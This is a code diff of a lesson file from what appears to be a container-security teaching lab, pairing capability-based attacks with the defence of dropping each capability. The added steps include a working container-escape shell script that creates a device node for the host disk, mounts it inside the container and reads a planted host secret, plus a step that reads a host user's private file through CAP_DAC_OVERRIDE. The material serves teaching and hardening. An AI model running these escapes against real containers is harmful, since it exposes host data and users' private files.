@@ -5,6 +5,8 @@ import { withNoNewPrivs, withParentDeathSignal } from '../../src/shell/setpriv.j
 import { writeBase64 } from '../../src/shell/seccomp.js';
 import { pauseElf } from '../../rootfs-fetch/pause-elf.js';
 import { cmd } from '../../src/shell/cmd.js';
+import { writeFile } from '../../src/shell/coreutils.js';
+import { SECRET_TEXT } from '../common.js';
 import { withBoundingSet } from '../../src/shell/capsh.js';
 import { bindMount, mountFs, remountReadOnly } from '../../src/shell/mount.js';
 import { CAPABILITIES, capMask, DOCKER_DEFAULT_CAPS } from '../../src/kernel/capabilities.js';
@@ -16,28 +18,58 @@ const DOCKER_MASK = capMask(DOCKER_DEFAULT_CAPS);
 const NOBODY = 65534;
 const NOT_DOCKER = CAPABILITIES.filter((c) => !DOCKER_DEFAULT_CAPS.includes(c));
 
-/** One capability's break-it: the call works with it (attack), fails without it (defence). */
-function capPair(id: string, cap: string, what: string, program: string, args: string[], prep: Action[] = []): Step[] {
+/** What the attack did that matters, read from the kernel or the host (not only "allowed"). */
+interface Harm {
+  title: string;
+  equals: string;
+}
+
+/** One capability's break-it: the attack works with it, fails without it (`drop`: the
+ *  capabilities that must go for it to fail, when another one grants the same). */
+function capPair(id: string, cap: string, what: string, program: string, args: string[], o: { prep?: Action[]; harm?: Harm; drop?: string[]; requires?: Step['requires'] } = {}): Step[] {
   const demo = `cap-${id}`;
+  const drop = o.drop ?? [cap];
   return [
     {
       id: `${id}-with`,
       title: `Break it: with ${cap.toUpperCase()}, root in the box ${what}`,
       feature: capFeature(cap),
       breakIt: { demo, role: 'attack' },
-      actions: [...prep, { run: boxPayload({}, program, ...args) }],
-      checks: [{ title: `with ${cap}: the kernel allowed it`, fact: { status: boxPayload({}, program, ...args) }, equals: '0' }],
+      ...(o.requires ? { requires: o.requires } : {}),
+      actions: [...(o.prep ?? []), { run: boxPayload({}, program, ...args) }],
+      checks: [
+        { title: `with ${cap}: the kernel allowed it`, fact: { status: boxPayload({}, program, ...args) }, equals: '0' },
+        ...(o.harm ? [{ title: o.harm.title, fact: { out: boxPayload({}, program, ...args) }, equals: o.harm.equals }] : []),
+      ],
     },
     {
       id: `${id}-without`,
-      title: `Drop ${cap.toUpperCase()}: the same call fails`,
+      title: `Drop ${drop.map((c) => c.toUpperCase()).join(' and ')}: the same attack fails`,
       feature: capFeature(cap),
       breakIt: { demo, role: 'defence' },
-      actions: [{ run: boxPayload({ drop: [cap] }, program, ...args), mayFail: true }],
-      checks: [{ title: `without ${cap}: the kernel refused it`, fact: { status: boxPayload({ drop: [cap] }, program, ...args) }, differs: '0' }],
+      ...(o.requires ? { requires: o.requires } : {}),
+      actions: [{ run: boxPayload({ drop }, program, ...args), mayFail: true }],
+      checks: [{ title: `without ${cap}: the kernel refused it`, fact: { status: boxPayload({ drop }, program, ...args) }, differs: '0' }],
     },
   ];
 }
+
+/**
+ * Mount the host's disk from inside the box and read the host's secret off it: a device node
+ * for the disk that holds $WORK (mknod, CAP_MKNOD, which Docker keeps), mounted read-only
+ * (mount(2), CAP_SYS_ADMIN). The same filesystem mounted twice is one superblock: nothing is
+ * written, and the mount dies with the box's mount namespace. $1 MAJ:MIN, $2 $WORK, $3 the
+ * disk's mount point on the host.
+ */
+const DISK_ATTACK =
+  'rm -f /tmp/hostdisk; mknod /tmp/hostdisk b "${1%:*}" "${1#*:}" || exit 1; mkdir -p /tmp/hostfs; ' +
+  'mount -o ro /tmp/hostdisk /tmp/hostfs || exit 1; rel=${2#"$3"}; cat "/tmp/hostfs/${rel#/}/host-secret"; s=$?; umount /tmp/hostfs; exit $s';
+const ON_A_DISK = {
+  command: cmd('sh', '-c', 'd=$(findmnt -no MAJ:MIN -T "$1") && [ -n "$d" ] && [ "${d%%:*}" != 0 ]', 'sh', '${WORK}'),
+  reason: "this host keeps ${WORK} on no block device (a virtual filesystem): there is no disk to mount",
+};
+const PRIVATE = '${WORK}/volume/private-notes';
+const PRIVATE_TEXT = 'private-notes-${RUN_ID}';
 
 // The paths Docker masks and makes read-only, where this kernel has them (the box shares it).
 // As runc does it: a directory gets an empty read-only tmpfs, a file gets /dev/null.
@@ -65,13 +97,23 @@ export default defineLesson({
       ],
       checks: [{ title: "the box's root has every capability the host's root has", fact: { ...BOX_STATUS, grep: 'CapBnd' }, equals: { file: '/proc/self/status', grep: 'CapBnd' } }],
     },
-    ...capPair('sys-admin', 'cap_sys_admin', 'mounts filesystems', '/bin/mount', ['-t', 'tmpfs', 'boxlab-capmount', '/root']),
+    ...capPair('sys-admin', 'cap_sys_admin', "mounts the host's disk and reads the host's secret", '/bin/sh', ['-c', DISK_ATTACK, 'sh', '${DISK}', '${WORK}', '${DISK_ROOT}'], {
+      requires: [ON_A_DISK],
+      prep: [{ run: cmd('findmnt', '-no', 'MAJ:MIN,TARGET', '-T', '${WORK}'), capture: 'DISK', match: '^ *([0-9]+:[0-9]+)', also: { DISK_ROOT: '^ *[0-9]+:[0-9]+ +(/[^ ]*)' } }],
+      harm: { title: "root in the box read the host's secret off the host's disk", equals: SECRET_TEXT },
+    }),
     ...capPair('net-raw', 'cap_net_raw', 'opens a raw socket (ping)', '/bin/ping', ['-c', '1', '-W', '1', '127.0.0.1']),
     // adjtimex -t with the tick the kernel already has: a write that changes nothing.
-    ...capPair('sys-time', 'cap_sys_time', 'sets a kernel clock parameter', '/bin/adjtimex', ['-t', '${TICK}'], [
-      { run: boxRun('/bin/adjtimex'), capture: 'TICK', match: 'tick: +([0-9]+)' },
-    ]),
-    ...capPair('chown', 'cap_chown', "gives a file away (chown)", '/bin/chown', ['65534', '/root/given-away'], [{ run: boxRun('/bin/touch', '/root/given-away') }]),
+    ...capPair('sys-time', 'cap_sys_time', 'sets a kernel clock parameter', '/bin/adjtimex', ['-t', '${TICK}'], {
+      prep: [{ run: boxRun('/bin/adjtimex'), capture: 'TICK', match: 'tick: +([0-9]+)' }],
+    }),
+    // A host user's private file (uid 1000, mode 600) in the volume: root reads it only by
+    // overriding its permissions, with CAP_DAC_OVERRIDE (Docker keeps it) or CAP_DAC_READ_SEARCH.
+    ...capPair('dac-override', 'cap_dac_override', "reads a host user's private file in the volume", '/bin/cat', ['/mnt/private-notes'], {
+      prep: [{ run: writeFile(PRIVATE, PRIVATE_TEXT) }, { run: cmd('chown', '1000:1000', PRIVATE) }, { run: cmd('chmod', '600', PRIVATE) }],
+      harm: { title: "root in the box read a file only uid 1000 may read", equals: PRIVATE_TEXT },
+      drop: ['cap_dac_override', 'cap_dac_read_search'],
+    }),
     {
       id: 'setuid',
       title: 'Break it: a setuid-root program makes an ordinary user root',
